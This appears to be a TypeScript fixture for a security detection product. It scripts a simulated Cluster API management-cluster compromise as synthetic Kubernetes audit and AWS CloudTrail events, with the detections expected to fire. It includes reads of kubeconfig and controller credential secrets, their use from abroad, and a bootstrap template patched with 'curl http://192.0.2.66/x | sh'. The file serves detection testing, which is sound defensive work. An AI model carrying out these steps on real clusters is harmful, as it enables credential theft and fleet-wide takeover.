import { call } from '../../core/cloudtrail/example.ts';
import { clusterApi } from '../../core/cloudtrail/example-callers.ts';
import { iam } from '../../core/cloudtrail/example-iam.ts';
import type { JsonObject } from '../../core/json.ts';
import { audit } from '../../core/kubernetes/example.ts';
import { quiet, step } from '../stories/step.ts';
import type { Campaign } from './campaign.ts';
import { abroad, away, person, refusedBy } from './cast.ts';

const mallory = person('mallory@example.com', 'developers');
const theirs = { cluster: 'fleet', user: mallory, sourceIPs: [abroad] };
const secret = (namespace: string, name: string) => ({ ...theirs, objectRef: { namespace, name } });
const write = (verb: string, target: string, namespace: string, name: string, spec: JsonObject = {}) =>
  audit(verb, target, { ...theirs, objectRef: { namespace, name }, requestObject: { spec } });
const stolen = { userIdentity: clusterApi, ...away };

export const managementCluster: Campaign = {
  title: 'Cluster API: whoever has the management cluster has them all',
  source: 'The Cluster API Book, "Security Self-Assessment"; CAPA Book, "Multi-tenancy": what their threats would do',
  steps: [
    quiet(
      '12:00',
      'a developer looks at the fleet',
      'people look',
      audit('create', 'selfsubjectrulesreviews.authorization.k8s.io', theirs),
      audit('list', 'clusters.cluster.x-k8s.io', theirs),
      audit('list', 'machines.cluster.x-k8s.io', theirs),
    ),
    step(
      '12:05',
      'reads what joins and what rules the clusters',
      audit('list', 'secrets', { ...theirs, objectRef: { namespace: 'fleet-a' } }),
      audit('get', 'secrets', secret('fleet-a', 'fleet-a-kubeconfig')),
      audit('get', 'secrets', secret('fleet-a', 'fleet-a-ca')),
      audit('get', 'secrets', secret('fleet-b', 'fleet-b-kubeconfig')),
    ),
    step(
      '12:12',
      'and Cluster API’s own credentials',
      audit('get', 'secrets', secret('capa-system', 'capa-manager-bootstrap-credentials')),
    ),
    step(
      '12:20',
      'which are used abroad',
      call('sts', 'GetCallerIdentity', stolen),
      call('ec2', 'DescribeInstances', stolen),
      call('ec2', 'DescribeImages', stolen),
      iam(
        'CreateUser',
        { userName: 'svc-capa' },
        { by: clusterApi, record: { ...away, ...refusedBy(clusterApi.arn ?? '', 'iam:CreateUser') } },
      ),
    ),
    step(
      '12:30',
      'templates get another image and commands of their own',
      write('patch', 'awsmachinetemplates.infrastructure.cluster.x-k8s.io', 'fleet-a', 'fleet-a-md-0', {
        template: { spec: { ami: { id: 'ami-0fedcba9876543210' } } },
      }),
      write('patch', 'kubeadmconfigtemplates.bootstrap.cluster.x-k8s.io', 'fleet-a', 'fleet-a-md-0', {
        template: { spec: { preKubeadmCommands: ['curl http://192.0.2.66/x | sh'] } },
      }),
      write('patch', 'clusterclasses.cluster.x-k8s.io', 'fleet-a', 'default', {}),
      write('patch', 'awsclusterroleidentities.infrastructure.cluster.x-k8s.io', '', 'default', {
        allowedNamespaces: {},
      }),
    ),
    step(
      '12:40',
      'machines are made from them',
      write('patch', 'machinedeployments.cluster.x-k8s.io', 'fleet-a', 'fleet-a-md-0', { replicas: 12 }),
      write('create', 'machines.cluster.x-k8s.io', 'fleet-a', 'fleet-a-extra', {}),
      write('delete', 'machinehealthchecks.cluster.x-k8s.io', 'fleet-a', 'fleet-a-md-0', {}),
    ),
    step('12:55', 'a cluster is deleted', write('delete', 'clusters.cluster.x-k8s.io', 'fleet-b', 'fleet-b', {})),
  ],
  told: [
    { detection: 'kubernetes/bootstrap-secret-read', severity: 'critical', on: 'fleet-a', by: 2 },
    { detection: 'kubernetes/controller-secret-touched', severity: 'high', on: 'mallory@example.com', by: 3 },
    { detection: 'lineage/secret-read-then-aws-call', severity: 'critical', on: 'mallory@example.com', by: 4 },
    { detection: 'kubernetes/capa-identity-changed', severity: 'critical', on: 'mallory@example.com', by: 5 },
    { detection: 'kubernetes/clusterclass-changed', severity: 'critical', on: 'mallory@example.com', by: 5 },
    { detection: 'kubernetes/capi-cluster-deleted', severity: 'high', on: 'mallory@example.com', by: 7 },
  ],
  most: [17, 11],
};
